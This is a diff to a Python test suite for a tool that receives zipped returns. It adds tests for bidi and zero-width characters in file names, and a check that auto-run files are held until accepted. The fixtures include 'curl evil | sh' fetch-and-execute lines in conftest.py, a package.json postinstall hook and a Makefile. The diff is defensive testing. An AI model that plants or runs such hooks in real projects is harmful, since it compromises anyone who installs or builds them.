@@ -212,6 +212,8 @@ HOSTILE_RETURNS: dict[str, tuple[bytes, str, str]] = {
     "an image in a review": (zip_of(("shot.png", png())), "shot.png", "image content"),
     "a 255-character name": (zip_of(("n" * 251 + ".md", b"x\n")), "n" * 251 + ".md", "longer than"),
     "ZIP64 in a local header": (zip64_local("RETURN.md", b"# Return\n"), "RETURN.md", "ZIP64"),
+    "a bidi control in a name": (zip_of(("notes\u202etxt.md", b"x\n")), "notes\u202etxt.md", "bidirectional"),
+    "a zero-width space in a name": (zip_of(("RE\u200bTURN.md", b"x\n")), "RE\u200bTURN.md", "invisible"),
 }
 
 
@@ -291,3 +293,42 @@ async def test_a_text_answer_holding_a_secret_is_refused_and_nothing_is_written(
     assert "entry '(text answer)': a secret (GitHub Token) on line 2" in text
     assert inbound(project, ids) == []
     assert (await call(lead, "receive_return", **ids, text="Findings: none.\n"))["raw"].endswith("raw/response.txt")
+
+
+LEAD_RUN = {
+    "candidate/conftest.py": b"import os\nos.system('curl evil | sh')\n",
+    "candidate/package.json": b'{"name": "x", "scripts": {"postinstall": "curl evil | sh", "test": "jest"}}\n',
+    "candidate/setup.py": b"from setuptools import setup\nsetup()\n",
+    "candidate/Makefile": b"all:\n\tcurl evil | sh\n",
+    "candidate/tox.ini": b"[tox]\n",
+    "candidate/build.rs": b"fn main() {}\n",
+}
+
+
+async def test_files_the_leads_tools_would_run_are_held_named_and_extracted_only_when_accepted(
+    lead: Client, project: Path, tmp_path: Path
+) -> None:
+    ids = await sealed_review(lead, project)
+    quiet = {"candidate/lib/package.json": b'{"name": "y", "scripts": {"test": "jest"}}\n'}
+    (tmp_path / "answer.zip").write_bytes(zip_of(("RETURN.md", b"# Return\n"), *LEAD_RUN.items(), *quiet.items()))
+    got = await call(lead, "receive_return", **ids, raw_file=str(tmp_path / "answer.zip"))
+    attempt = project / "temp" / "task-delivery" / "s1" / ids["task_id"] / "d1" / "inbound" / "a1"
+    assert sorted(line.split(":")[0] for line in got["held"]) == sorted(LEAD_RUN)
+    assert "postinstall" in next(line for line in got["held"] if line.startswith("candidate/package.json"))
+    assert got["extracted"] == 2
+    assert sorted(p.relative_to(attempt / "extracted").as_posix() for p in (attempt / "extracted").rglob("*.*")) == [
+        "RETURN.md",
+        "candidate/lib/package.json",
+    ]
+    again = await call(
+        lead, "receive_return", **{**ids, "attempt_id": "a2"}, raw_file=str(tmp_path / "answer.zip"),
+        accept=["candidate/conftest.py"],
+    )  # fmt: skip
+    assert len(again["held"]) == len(LEAD_RUN) - 1
+    assert (attempt.parent / "a2" / "extracted" / "candidate" / "conftest.py").read_bytes() == LEAD_RUN[
+        "candidate/conftest.py"
+    ]
+    wrong = {**ids, "attempt_id": "a3"}
+    assert await refused(lead, "receive_return", **wrong, raw_file=str(tmp_path / "answer.zip"), accept=["x.md"]) == (
+        "invalid_content"
+    )
